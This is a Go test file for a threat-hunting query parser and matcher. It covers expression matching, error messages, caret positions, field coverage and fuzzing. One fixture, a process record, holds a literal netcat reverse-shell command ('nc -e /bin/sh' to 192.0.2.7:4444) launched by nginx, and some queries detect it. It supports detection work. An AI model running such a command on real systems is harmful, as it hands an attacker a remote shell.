package hunt

import (
	"errors"
	"net/netip"
	"strings"
	"testing"
)

// told is a record made of literals.
type told struct {
	kind      Kind
	texts     map[Field][]string
	numbers   map[Field]uint64
	addresses map[Field][]string
}

func (r told) Kind() Kind { return r.kind }

func (r told) Texts(f Field, out []string) []string { return append(out, r.texts[f]...) }

func (r told) Number(f Field) (uint64, bool) {
	v, ok := r.numbers[f]
	return v, ok
}

func (r told) Addresses(f Field, out []netip.Addr) []netip.Addr {
	for _, a := range r.addresses[f] {
		out = append(out, netip.MustParseAddr(a))
	}
	return out
}

var shell = told{
	kind: Process,
	texts: map[Field][]string{
		Image: {"/usr/bin/nc"}, CommandLine: {"nc -e /bin/sh 192.0.2.7 4444"}, Argument: {"nc", "-e", "/bin/sh", "192.0.2.7", "4444"},
		User: {"www-data"}, ParentImage: {"/usr/sbin/nginx"}, Trait: {"set-id", "hidden-path"}, Cwd: {"/tmp/\xff"},
	},
	numbers: map[Field]uint64{UID: 33, PID: 4711},
}

var flow = told{
	kind:      Network,
	texts:     map[Field][]string{Image: {"/usr/bin/curl"}, Protocol: {"tcp"}, Direction: {"out"}},
	numbers:   map[Field]uint64{RemotePort: 443, BytesOut: 12 << 20, Failed: 0},
	addresses: map[Field][]string{RemoteAddress: {"::ffff:10.1.2.3"}},
}

// Ensure an expression finds what it says.
func TestMatch(t *testing.T) {
	for _, tt := range []struct {
		text   string
		record told
		want   bool
	}{
		{`process`, shell, true},
		{`any`, shell, true},
		{`network`, shell, false},
		{`process where image endswith "/nc" and parent.image endswith "/nginx"`, shell, true},
		{`process where image endswith "/nc" and parent.image endswith "/sshd"`, shell, false},
		{`PROCESS WHERE Image == "/usr/bin/nc" AND NOT user == "root"`, shell, true},
		{`process where image in ("/bin/x", "/usr/bin/nc")`, shell, true},
		{`process where image in ("/bin/x")`, shell, false},
		{`process where argument == "-e"`, shell, true},
		{`process where argument != "-e"`, shell, false},
		{`process where argument != "-z"`, shell, true},
		{`process where trait in ("memfd", "set-id")`, shell, true},
		{`process where command_line matches "[0-9]{1,3}(\\.[0-9]{1,3}){3} \\d+$"`, shell, true},
		{`process where command_line matches "^sh"`, shell, false},
		{`process where cwd == "/tmp/\xff"`, shell, true},
		{`process where uid >= 33 and uid < 34 and pid in (1, 4711)`, shell, true},
		{`process where uid > 33 or uid <= 32 or uid != 33`, shell, false},
		{`process where (uid == 0 or uid == 33) and (user contains "data")`, shell, true},
		// "and" binds more than "or".
		{`process where user == "www-data" or user == "root" and uid == 0`, shell, true},
		{`process where (user == "www-data" or user == "root") and uid == 0`, shell, false},
		// What is not told is compared with nothing, and only "not" makes that true.
		{`process where script == ""`, shell, false},
		{`process where script != "x"`, shell, false},
		{`process where not script == "x"`, shell, true},
		{`process where login_uid != 0`, shell, false},
		{`network where remote.address == "10.0.0.0/8" and remote.port == 443`, flow, true},
		{`network where remote.address == "10.1.2.3"`, flow, true},
		{`network where remote.address == "::ffff:10.1.0.0/112"`, flow, true},
		{`network where remote.address != "10.0.0.0/8"`, flow, false},
		{`network where remote.address in ("192.0.2.0/24", "10.1.0.0/16")`, flow, true},
		{`network where local.address != "10.0.0.0/8"`, flow, false},
		{`network where bytes_out > 10M and failed == false`, flow, true},
		{`network where failed != false`, flow, false},
		{`network where destination.port == 0x1bb`, flow, true},
	} {
		e, err := Parse(tt.text)
		if err != nil {
			t.Errorf("%s: %v", tt.text, err)
			continue
		}
		m := e.Matcher()
		for range 2 { // the second time with memory that was used
			if got := m.Match(tt.record); got != tt.want {
				t.Errorf("%s: got %v", tt.text, got)
			}
		}
	}
}

// Ensure what is wrong is said at its place, with what to write.
func TestErrors(t *testing.T) {
	deep := strings.Repeat("(", 100) + `uid == 0` + strings.Repeat(")", 100)
	for _, tt := range []struct {
		text string
		at   int
		want string
	}{
		{``, 0, "nothing is asked"},
		{`image == "x"`, 0, `"image" is no kind of event: begin with one of process, network`},
		{`process image == "x"`, 8, `write "where"`},
		{`process where`, 13, "a field comes here"},
		{`process where imag == "x"`, 14, "is image meant?"},
		{`process where address == "x"`, 14, "is remote.address meant?"},
		{`process where zzzzzz == "x"`, 14, "hunt --fields"},
		{`process where path == "x"`, 14, "process events do not tell path: ask for file, or for any"},
		{`process where image = "x"`, 20, "write =="},
		{`process where image "x"`, 20, "image is compared by ==, !=, startswith"},
		{`process where image > "x"`, 20, `not by ">"`},
		{`process where uid contains 3`, 18, "uid is compared by ==, !=, <"},
		{`process where image == 3`, 23, "in double quotes"},
		{`process where image == 'x'`, 23, "double quotes"},
		{`process where image == "x`, 23, "no closing quote"},
		{`process where image == "\d"`, 24, "doubled"},
		{`process where image == "\xg1"`, 24, "two hex digits"},
		{`process where image == "\x`, 24, "two hex digits"},
		{`process where uid == "3"`, 21, "without quotes"},
		{`process where uid == 3x`, 21, "is no number"},
		{`process where uid == 99999999999999999999`, 21, "is no number"},
		{`process where uid == 18446744073709551615k`, 21, "is no number"},
		{`network where remote.address == 10.0.0.1`, 32, "addresses stand in double quotes"},
		{`network where remote.address == "10.0.0.0/40"`, 32, "an address or a prefix"},
		{`network where remote.address contains "10."`, 29, "remote.address is compared by"},
		{`network where failed == 1`, 24, "true or false"},
		{`network where failed in (true)`, 24, "failed is compared by"},
		{`process where image in "x"`, 23, "in parentheses"},
		{`process where image in ()`, 24, "in double quotes"},
		{`process where image in ("x" "y")`, 28, `write "," or ")"`},
		{`process where (uid == 0`, 23, "was opened at character 15"},
		{`process where uid == 0)`, 22, "closes no parenthesis"},
		{`process where uid == 0 gid == 0`, 23, `write "and" or "or"`},
		{`process where uid == 0 && gid == 0`, 23, `"and" or "or"`},
		{`process where !(uid == 0)`, 14, `write "not"`},
		{`process where uid == 0 # x`, 23, "has no meaning here"},
		{`process where image matches "("`, 28, "RE2"},
		{`process where image matches "(?=x)"`, 28, "RE2"},
		{`process where image matches "((a{100}){100}){100}"`, 28, "RE2"},
		{`process where image matches "(x{1000}){1,1}" or image matches "((((a{30}){30}b){20}){2})"`, 0, ""},
		{"process where image == \"\xff\"", 24, "no UTF-8"},
		{`process where ` + deep, 14 + 64, "levels"},
		{`process where ` + strings.Repeat("not ", 100) + `uid == 0`, 14 + 4*64, "levels"},
		{`process where uid == 0` + strings.Repeat(` or uid == 0`, 600), -1, "more than 512 comparisons"},
		{`process where uid in (0` + strings.Repeat(`,0`, 5000) + `)`, -1, "more than 4096 values"},
		{`process where image matches "a"` + strings.Repeat(` or image matches "a"`, 64), -1, "more than 64 patterns"},
		{`process where image matches "` + strings.Repeat("a", 2000) + `"`, 28, "more than 1024 bytes"},
		{`process where image == "` + strings.Repeat("a", MaxExpression) + `"`, MaxExpression, "more than 16 KiB"},
	} {
		_, err := Parse(tt.text)
		var wrong *Error
		if !errors.As(err, &wrong) {
			if tt.want != "" {
				t.Errorf("%.80s: got %v", tt.text, err)
			}
			continue
		}
		if !strings.Contains(wrong.Message, tt.want) || tt.at > 0 && wrong.Offset != tt.at {
			t.Errorf("%.80s: at %d: %s; want %q at %d", tt.text, wrong.Offset, wrong.Message, tt.want, tt.at)
		}
	}
}

// Ensure the mark stands below the place, also behind letters of more bytes than one.
func TestCaret(t *testing.T) {
	_, err := Parse("process where user == \"jörg\" and\n\timag == \"x\"")
	var wrong *Error
	if !errors.As(err, &wrong) {
		t.Fatal(err)
	}
	if got, want := wrong.Caret(), " imag == \"x\"\n ^"; got != want {
		t.Errorf("got\n%s", got)
	}
	_, err = Parse(`process where user == "jörg" imag`)
	if !errors.As(err, &wrong) || wrong.Caret() != "process where user == \"jörg\" imag\n                             ^" {
		t.Errorf("got\n%s", wrong.Caret())
	}
	if !strings.HasPrefix(wrong.Error(), "at character 30: ") {
		t.Errorf("got %v", wrong)
	}
}

// Ensure every field can be asked for in each kind that tells it, under its own name.
func TestFields(t *testing.T) {
	values := map[string]string{"text": `"x"`, "number": "1", "address": `"10.0.0.0/8"`, "true or false": "true"}
	for _, f := range Fields() {
		if f.Name == "" || f.Says == "" || len(f.Kinds) == 0 {
			t.Errorf("%+v", f)
		}
		for _, kind := range append(f.Kinds, "any") {
			if _, err := Parse(kind + " where " + f.Name + " == " + values[f.Form]); err != nil {
				t.Error(err)
			}
		}
	}
}

// Ensure a parent is looked for only when it is asked about.
func TestNeedsParent(t *testing.T) {
	for text, want := range map[string]bool{
		`process`: false, `process where uid == 0`: false, `process where uid == 0 or not (parent.image == "x")`: true,
		`process where parent.pid == 1`: false, // every record tells it
	} {
		e, err := Parse(text)
		if err != nil || e.NeedsParent() != want {
			t.Errorf("%s: %v, %v", text, e.NeedsParent(), err)
		}
	}
}

// FuzzParse: whatever is written is understood or refused with a place in it, quoting
// keeps every byte, and what was understood can be matched.
func FuzzParse(f *testing.F) {
	for _, seed := range []string{
		`process where image endswith "/nc" and parent.image endswith "/nginx"`,
		`network where (remote.address in ("10.0.0.0/8", "::1") or remote.port >= 1024) and not failed == true`,
		`any where argument matches "(?i)a+b*$" or uid in (0, 0x10, 5k)`, "dns\nwhere name == \"\\x00\\\"\"", `"`, `process where ((((`, "\x00", "process where a.b.c. == 1.2.3",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		e, err := Parse(text)
		var wrong *Error
		switch {
		case errors.As(err, &wrong):
			if wrong.Offset < 0 || wrong.Offset > len(text) || wrong.Message == "" || wrong.Caret() == "" {
				t.Fatalf("%q: %+v", text, wrong)
			}
		case err != nil:
			t.Fatal(err)
		default:
			e.Matcher().Match(shell)
			e.Matcher().Match(flow)
		}
		quoted := Quote(text)
		again, err := Parse("process where image == " + quoted)
		if len(quoted) > MaxExpression-100 {
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		if !again.Matcher().Match(told{kind: Process, texts: map[Field][]string{Image: {text}}}) {
			t.Fatalf("%q is not found by %s", text, quoted)
		}
	})
}
